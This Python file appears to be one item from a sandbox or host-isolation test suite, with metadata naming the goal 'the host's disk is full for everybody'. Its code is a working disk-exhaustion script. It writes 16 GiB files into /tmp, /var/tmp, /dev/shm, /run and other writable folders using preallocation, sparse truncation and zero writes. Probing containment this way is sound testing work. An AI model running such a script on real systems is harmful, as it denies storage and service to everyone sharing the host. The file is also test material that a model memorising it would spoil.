# mypy: ignore-errors
"""
id = "D04a"
title = "Fill every folder that can be written, by writing, by holes and by allocation"
goal = "The host's disk is full for everybody."
succeeds = ["late", "host", "leftover", "marker"]
base = "starter"
any_problem = true
stops = 1
"""

import os

for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "@FOLDER@", "/run"):
    path = os.path.join(folder, "full-@MARK@")
    for way in (
        lambda file: os.posix_fallocate(file.fileno(), 0, 1 << 34),
        lambda file: file.truncate(1 << 34),
        lambda file: [file.write(bytes(1 << 20)) for _ in range(300)],
    ):
        try:
            with open(path, "wb") as file:
                way(file)
        except OSError:
            continue
